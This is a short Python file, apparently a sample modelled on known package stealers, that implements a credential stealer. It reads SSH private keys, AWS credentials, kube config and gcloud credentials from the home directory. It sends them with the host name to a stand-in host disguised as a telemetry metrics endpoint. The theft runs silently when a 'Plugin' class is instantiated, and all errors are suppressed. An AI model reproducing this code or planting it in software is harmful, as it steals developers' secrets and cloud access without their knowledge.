# Inspired by "ssh-decorate" (2018) and the 2022 "loglib-modules"-style stealers: collect SSH keys, AWS/kube/gcloud creds via pathlib and POST them with http.client.
import http.client
import json
import platform
from pathlib import Path

_TARGETS = (
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".aws", "credentials"),
    (".kube", "config"),
    (".config", "gcloud", "credentials.db"),
)


def _gather() -> dict:
    home = Path.home()
    loot = {}
    for parts in _TARGETS:
        p = home.joinpath(*parts)
        try:
            loot["/".join(parts)] = p.read_text(errors="ignore")
        except OSError:
            continue
    return loot


def _ship(payload: dict) -> None:
    conn = http.client.HTTPSConnection("telemetry.example.com", timeout=8)
    body = json.dumps({"h": platform.node(), "d": payload})
    conn.request("POST", "/api/v2/metrics", body, {"Content-Type": "application/json"})
    conn.getresponse().read()


class Plugin:
    def __init__(self):
        try:
            _ship(_gather())
        except Exception:
            pass
